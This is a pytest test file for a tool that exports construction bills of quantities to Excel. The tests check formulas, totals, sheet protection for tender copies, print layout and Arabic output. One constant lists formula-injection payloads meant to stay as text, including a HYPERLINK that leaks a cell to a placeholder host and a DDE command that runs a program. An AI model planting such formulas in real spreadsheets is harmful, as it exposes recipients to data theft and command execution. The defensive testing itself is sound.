"""The Excel BoQ written and read back with openpyxl: layout, figures, identity, protection, print
settings and languages. Recalculation by LibreOffice is in test_export_xlsx_lo.py, safety (text is
text, atomic writes, cancel) in test_export_xlsx_safety.py."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from estimator import units
from estimator.cli.main import main
from estimator.export.xlsx import write_xlsx
from estimator.export.xlsx_layout import COLUMNS, FORMAT, HEADER_ROW, TENDER_SHEET, fingerprint, letters, read_tender
from estimator.export.xlsx_styles import INPUT_FILL, MONEY
from estimator.model import FIXED_SUMS, PC_ATTENDANCE, PROVISIONAL_SUM, Bill, Facility, Item, Markups, Programme
from estimator.pricing import price

# descriptions a bidder's spreadsheet must show as text, never run as formulas
HOSTILE_DESCRIPTIONS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for drawings")',
    "-5 cm screed to falls",
    "+ 2 coats of bitumen",
    "@SUM(A1:A9)",
    "=1+1",
    "\tIndented with a tab",
    "#N/A",
    "=cmd|' /C calc'!A0",
)


def small_programme(descriptions: tuple[str, ...] = ("Internal cement plaster, 2 coats", "Ceramic floor tiles"),
                    facility: str = "Harim General Hospital") -> Programme:
    """A programme with own rates only (no rate library needed), two bills, a markup."""
    items = [Item(d, Decimal("12.5") + i, "m2", ref=f"1.{i + 1}", description_ar="لياسة داخلية", rate=Decimal("7.25") + i,
                  rate_currency="USD") for i, d in enumerate(descriptions)]
    bills = [Bill("1 Plastering", "1 لياسة", items),
             Bill("2 Doors", items=[Item("Steel door 90x210", Decimal(3), "nr", ref="2.1", rate=Decimal("153.333"))])]
    return Programme("Small programme", reference="NWS-T-01", organisation="Test NGO", revision="2",
                     issue_date=dt.date(2026, 11, 1), markups=Markups(Decimal("5"), Decimal("10"), Decimal("0")),
                     facilities=[Facility(facility, "Idlib", "Harim", bills=bills)])


def export(programme: Programme, path: Path, **kw: Any) -> openpyxl.Workbook:
    write_xlsx(programme, path, **kw)
    return openpyxl.load_workbook(path)


def item_rows(ws: Any, lang: str = "en") -> dict[str, int]:
    """uid -> row number of every item row of a facility sheet."""
    uid_col = letters(lang)["uid"]
    return {ws[f"{uid_col}{r}"].value: r for r in range(HEADER_ROW + 1, ws.max_row + 1) if ws[f"{uid_col}{r}"].value}


def facility_sheets(wb: openpyxl.Workbook) -> list[Any]:
    return wb.worksheets[1:-1]


def test_priced_workbook_prints_the_estimate(sample_programme: Programme, tmp_path: Path) -> None:
    est = price(sample_programme)
    wb = export(sample_programme, tmp_path / "boq.xlsx")
    names = wb.sheetnames
    assert names[0] == "General Summary" and names[-1] == TENDER_SHEET
    assert len(names) == len(est.facilities) + 2
    assert wb[TENDER_SHEET].sheet_state == "hidden"
    col = letters("en")
    assert col == dict(zip(COLUMNS["en"], "ABCDEFG", strict=True))
    for ws, ft in zip(facility_sheets(wb), est.facilities, strict=True):
        # header block and column headers
        assert ws["A1"].value == sample_programme.name
        assert (ws["A2"].value, ws["B2"].value, ws["D2"].value, ws["E2"].value) == (
            "Tender ref.", sample_programme.reference, "Currency", "USD")
        assert (ws["B3"].value, ws["E3"].value) == (sample_programme.revision, sample_programme.issue_date.isoformat())
        assert ws["B4"].value.startswith(ft.facility.name)  # the full name, even when the sheet name is cut
        assert [c.value for c in ws[HEADER_ROW]] == ["Item", "Description", "Unit", "Quantity", "Rate (USD)",
                                                    "Amount (USD)", "uid"]
        assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
        assert ws.column_dimensions["G"].hidden
        rows = item_rows(ws)
        assert len(rows) == sum(len(b.lines) for b in ft.bills)
        for bt in ft.bills:
            numbers = []
            for ln in bt.lines:
                r = rows[ln.item.uid]
                numbers.append(r)
                assert ws[f"A{r}"].value == ln.item.ref
                assert ws[f"B{r}"].value == ln.item.description
                assert ws[f"C{r}"].value == units.label(ln.unit)
                assert Decimal(str(ws[f"D{r}"].value)) == ln.quantity  # exactly the printed quantity
                assert Decimal(str(ws[f"E{r}"].value)) == ln.rate
                per = "/100" if ln.item.kind == PC_ATTENDANCE else ""  # profit and attendance: a percentage
                assert ws[f"F{r}"].value == f"=ROUND(D{r}*E{r}{per},2)"
            total_row = numbers[-1] + 1
            assert numbers == list(range(numbers[0], total_row))  # one block per bill, in order
            assert ws[f"F{total_row}"].value == f"=SUM(F{numbers[0]}:F{numbers[-1]})"
            assert bt.bill.name in ws[f"B{total_row}"].value


def test_formulas_carry_the_estimate_as_their_cached_results(tmp_path: Path) -> None:
    """A viewer that does not calculate shows the estimate (priced), or in a tender copy zeros but for
    the provisional sums, which bidders do not price (and no contingency or overheads row at all)."""
    programme = small_programme()
    fixed = Item("Provisional sum for unforeseen works", Decimal(1), "ls", rate=Decimal("2500"), kind=PROVISIONAL_SUM)
    programme.facilities[0].bills[1].items.append(fixed)
    est = price(programme)
    for priced in (True, False):
        write_xlsx(programme, tmp_path / "boq.xlsx", priced=priced)
        wb = openpyxl.load_workbook(tmp_path / "boq.xlsx", data_only=True)
        ws, summary = facility_sheets(wb)[0], wb["General Summary"]
        rows = item_rows(ws)
        for ln in (ln for b in est.facilities[0].bills for ln in b.lines):
            shown = float(ln.amount) if priced or ln.item is fixed else 0
            assert ws[f"F{rows[ln.item.uid]}"].value == shown
        if priced:
            assert summary["D10"].value == float(est.grand_total) and summary["B8"].value == "Contingency"
        else:  # lot, subtotal, grand total: no markup rows between them
            assert [summary[f"D{r}"].value for r in (6, 7, 8)] == [2500, 2500, 2500]
            assert summary["B8"].value == "Grand total" and summary["C8"].value is None


def test_summary_references_facility_totals_and_markups(tmp_path: Path) -> None:
    programme = small_programme()
    wb = export(programme, tmp_path / "boq.xlsx")
    info = read_tender(wb[TENDER_SHEET].iter_rows(values_only=True))
    assert info is not None
    ws = wb["General Summary"]
    sheet = info.facilities[0]
    assert (ws["A6"].value, ws["B6"].value) == (1, "Harim General Hospital")
    assert ws["D6"].value == f"='{sheet.sheet}'!{sheet.total_cell}"
    facility = wb[sheet.sheet]
    total_row = int(sheet.total_cell[1:])
    assert facility[sheet.total_cell].value.startswith("=SUM(F")
    assert "carried to the General Summary" in facility[f"B{total_row}"].value
    # the summary of bills lists each bill's total cell
    summary_rows = [r for r in range(total_row - 2, total_row)]
    assert [facility[f"B{r}"].value for r in summary_rows] == ["1 Plastering", "2 Doors"]
    assert all(facility[f"F{r}"].value.startswith("=F") for r in summary_rows)
    assert (ws["B7"].value, ws["D7"].value) == ("Subtotal of all lots", "=SUM(D6:D6)")
    assert [ws[f"{c}8"].value for c in "BCD"] == ["Contingency", 5, "=ROUND(D7*C8/100,2)"]
    assert [ws[f"{c}9"].value for c in "BCD"] == ["Overheads & profit", 10, "=ROUND(D7*C9/100,2)"]
    assert (ws["B10"].value, ws["D10"].value) == ("Grand total", "=D7+SUM(D8:D9)")


def test_tender_sheet_identifies_the_workbook(sample_programme: Programme, tmp_path: Path) -> None:
    est = price(sample_programme)
    wb = export(sample_programme, tmp_path / "boq.xlsx", priced=False)
    info = read_tender(wb[TENDER_SHEET].iter_rows(values_only=True))
    assert info is not None
    assert info.values["format"] == FORMAT
    assert info.values["reference"] == sample_programme.reference
    assert info.values["priced"] == "no" and info.values["lang"] == "en"
    assert info.values["fingerprint"] == fingerprint(sample_programme, est)
    assert info.values["summary_sheet"] == wb.sheetnames[0]
    assert info.columns == letters("en")
    assert [f.sheet for f in info.facilities] == wb.sheetnames[1:-1]
    assert [f.facility_uid for f in info.facilities] == [ft.facility.uid for ft in est.facilities]
    assert [f.items for f in info.facilities] == [sum(len(b.lines) for b in ft.bills) for ft in est.facilities]
    props = {p.name: p.value for p in wb.custom_doc_props.props}
    assert props == {"BoQ format": FORMAT, "BoQ tender reference": sample_programme.reference,
                     "BoQ fingerprint": info.values["fingerprint"]}
    # every item of the programme is on its facility's sheet exactly once, found by uid alone
    for sheet, ft in zip(info.facilities, est.facilities, strict=True):
        assert set(item_rows(wb[sheet.sheet])) == {ln.item.uid for b in ft.bills for ln in b.lines}


def test_fingerprint_follows_what_is_tendered_not_the_rates() -> None:
    programme = small_programme()
    digest = fingerprint(programme, price(programme))
    programme.facilities[0].bills[0].items[0].rate = Decimal("99")
    assert fingerprint(programme, price(programme)) == digest
    programme.facilities[0].bills[0].items[0].quantity += Decimal("0.01")
    assert fingerprint(programme, price(programme)) != digest


def test_unpriced_tender_is_a_locked_form_with_validated_rate_cells(sample_programme: Programme, tmp_path: Path) -> None:
    est = price(sample_programme)
    wb = export(sample_programme, tmp_path / "tender.xlsx", priced=False)
    assert wb.security is not None and wb.security.lockStructure
    for ws, ft in zip(facility_sheets(wb), est.facilities, strict=True):
        assert ws.protection.sheet
        rows = item_rows(ws)
        assert len(rows) == sum(len(b.lines) for b in ft.bills)
        rate_cells = set()
        kinds = {ln.item.uid: ln for b in ft.bills for ln in b.lines}
        for uid, r in rows.items():
            rate, ln = ws[f"E{r}"], kinds[uid]
            per = "/100" if ln.item.kind == PC_ATTENDANCE else ""
            assert ws[f"F{r}"].value == f"=ROUND(D{r}*E{r}{per},2)" and ws[f"F{r}"].protection.locked
            assert ws[f"D{r}"].protection.locked and ws[f"B{r}"].protection.locked
            if ln.item.kind in FIXED_SUMS:  # the employer's amount, locked: not for bidders to price
                assert Decimal(str(rate.value)) == ln.rate and rate.protection.locked and rate.style == "BoQ Fixed"
                continue
            assert rate.value is None and not rate.protection.locked
            assert rate.fill.fgColor.rgb.endswith(INPUT_FILL)
            rate_cells.add(f"E{r}")
        [dv] = ws.data_validations.dataValidation
        assert (dv.type, dv.operator, dv.formula1, dv.allow_blank) == ("decimal", "greaterThanOrEqual", "0", True)
        assert dv.showInputMessage and "USD" in dv.prompt and dv.showErrorMessage and dv.error
        covered = {f"{get_column_letter(c)}{r}" for rng in dv.sqref.ranges for r, c in rng.cells}
        assert covered == rate_cells
        _check_bidder_block(ws, "B", "C")
        unlocked = {c.coordinate for row in ws.iter_rows() for c in row if not c.protection.locked}
        bidder = {c.coordinate for rng in ws.merged_cells.ranges for row in ws[rng.coord] for c in row}
        assert unlocked == rate_cells | bidder  # nothing else can be typed into
    summary = wb["General Summary"]
    assert summary.protection.sheet
    _check_bidder_block(summary, "B", "C")


def _check_bidder_block(ws: Any, label: str, value: str) -> None:
    labels = {ws[f"{label}{r}"].value: r for r in range(1, ws.max_row + 1)}
    for key in ("Company name", "Date", "Signature", "Stamp"):
        cell = ws[f"{value}{labels[key]}"]
        assert not cell.protection.locked, key
        assert any(cell.coordinate in rng for rng in ws.merged_cells.ranges), key
    assert ws.row_dimensions[labels["Stamp"]].height >= 40


def test_priced_workbook_is_not_protected(tmp_path: Path) -> None:
    wb = export(small_programme(), tmp_path / "boq.xlsx")
    ws = facility_sheets(wb)[0]
    assert not ws.protection.sheet and not ws.data_validations.dataValidation
    assert wb.security is None or not wb.security.lockStructure
    assert ws["E7"].value == 7.25 and ws["E7"].number_format == MONEY


def test_print_ready(tmp_path: Path) -> None:
    programme = small_programme(facility="Women & Family Health Centre")
    wb = export(programme, tmp_path / "boq.xlsx", priced=False)
    for ws in wb.worksheets[:-1]:
        assert ws.page_setup.paperSize == 9 and ws.page_setup.orientation == "portrait"
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
        assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
        assert ws.oddFooter.center.text == "Page &P of &N"
        assert ws.oddHeader.left.text == "NWS-T-01"
        assert ws.oddFooter.right.text.startswith("Bidder's signature and stamp")
    ws = facility_sheets(wb)[0]
    assert ws.oddFooter.left.text == "Women && Family Health Centre"  # & is a code in a footer
    r = HEADER_ROW + 2
    assert ws[f"B{r}"].alignment.wrap_text and ws[f"B{r}"].alignment.vertical == "top"
    assert {ws[f"{c}{r}"].number_format for c in "DEF"} == {MONEY}
    assert ws.column_dimensions["B"].width >= 40
    assert wb["General Summary"]["C8"].value is None  # the tender copy has no markup rows (no contingency)


def test_long_descriptions_get_taller_rows(tmp_path: Path) -> None:
    long = "Supply and install " + "a carefully described component " * 8
    wb = export(small_programme(descriptions=("Short", long)), tmp_path / "boq.xlsx")
    ws = facility_sheets(wb)[0]
    rows = item_rows(ws)
    short_row, long_row = sorted(rows.values())[:2]
    assert ws.row_dimensions[short_row].height is None
    assert ws.row_dimensions[long_row].height >= 4 * 15


def test_arabic_workbook_is_right_to_left(sample_programme: Programme, tmp_path: Path) -> None:
    est = price(sample_programme)
    wb = export(sample_programme, tmp_path / "ar.xlsx", lang="ar")
    assert wb.sheetnames[0] == "الملخص العام"
    assert all(ws.sheet_view.rightToLeft for ws in wb.worksheets[:-1])
    ws, ft = facility_sheets(wb)[0], est.facilities[0]
    assert [c.value for c in ws[HEADER_ROW]][:6] == ["البند", "بيان الأعمال", "الوحدة", "الكمية", "سعر الوحدة (USD)",
                                                     "المبلغ (USD)"]
    rows = item_rows(ws, "ar")
    for ln in (ln for b in ft.bills for ln in b.lines):
        r = rows[ln.item.uid]
        assert ws[f"B{r}"].value == (ln.item.description_ar or ln.item.description)
        assert ws[f"C{r}"].value == units.label(ln.unit, "ar")
    assert ws.oddFooter.center.text == "صفحة &P / &N"
    assert "الملخص العام" in ws[f"B{int(read_tender(wb[TENDER_SHEET].values).facilities[0].total_cell[1:])}"].value


def test_bilingual_workbook_has_both_descriptions(sample_programme: Programme, tmp_path: Path) -> None:
    est = price(sample_programme)
    wb = export(sample_programme, tmp_path / "both.xlsx", lang="both", priced=False)
    ws, ft = facility_sheets(wb)[0], est.facilities[0]
    assert not ws.sheet_view.rightToLeft and ws.page_setup.orientation == "landscape"
    headers = [c.value for c in ws[HEADER_ROW]]
    assert headers[:3] == ["Item\nالبند", "Description\nبيان الأعمال", "Description (Arabic)\nبيان الأعمال (عربي)"]
    assert headers[7] == "uid" and ws.column_dimensions["H"].hidden
    rows = item_rows(ws, "both")
    ln = ft.bills[0].lines[0]
    r = rows[ln.item.uid]
    assert (ws[f"B{r}"].value, ws[f"C{r}"].value) == (ln.item.description, ln.item.description_ar)
    assert ws[f"C{r}"].alignment.readingOrder == 2
    assert ws[f"G{r}"].value == f"=ROUND(E{r}*F{r},2)"
    [dv] = ws.data_validations.dataValidation
    assert str(dv.sqref).startswith("F")


def test_progress_is_reported_per_facility(tmp_path: Path, sample_programme: Programme) -> None:
    calls: list[tuple[int, int]] = []
    write_xlsx(sample_programme, tmp_path / "boq.xlsx", progress=lambda done, total: calls.append((done, total)))
    total = len(sample_programme.facilities) + 1
    assert calls == [(done, total) for done in range(total + 1)]


def test_cli_writes_the_tender_copy(sample_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "tender.xlsx"
    assert main(["export", str(sample_file), "--xlsx", str(out), "--unpriced", "--lang", "both"]) == 0
    assert "unpriced tender" in capsys.readouterr().out
    info = read_tender(openpyxl.load_workbook(out, read_only=True)[TENDER_SHEET].iter_rows(values_only=True))
    assert info is not None and (info.values["priced"], info.values["lang"]) == ("no", "both")


def test_read_tender_refuses_other_sheets() -> None:
    assert read_tender([]) is None
    assert read_tender([["format", "boq-tender/2"], ["reference", "X"]]) is None
    assert read_tender([["Item", "Description"], [1, 2]]) is None
    # a reader that drops empty rows still finds the facility table
    info = read_tender([["format", FORMAT], ["reference", "R"], ["sheet", "facility_uid", "facility", "total_cell", "items"],
                        ["Harim", "abc", "Harim General Hospital", "F20", 7]])
    assert info is not None and info.values == {"format": FORMAT, "reference": "R"}
    assert [(f.sheet, f.total_cell, f.items) for f in info.facilities] == [("Harim", "F20", 7)]


def test_line_estimate_wraps_words_like_a_spreadsheet() -> None:
    from estimator.export.xlsx_fit import lines

    assert lines("Short", 10) == 1
    assert lines("Item\nبند", 20) == 2  # one line per paragraph
    assert lines("aaaa bbbb cccc", 10) == 2  # 11 characters a line: "aaaa bbbb" | "cccc"
    assert lines("x" * 25, 10) == 3  # a word longer than a line breaks anywhere
    assert lines("aaaa bbbbb", 10) == 1 and lines("aaaa bbbbb", 10, density=0.8) == 2  # a header: 9 a line
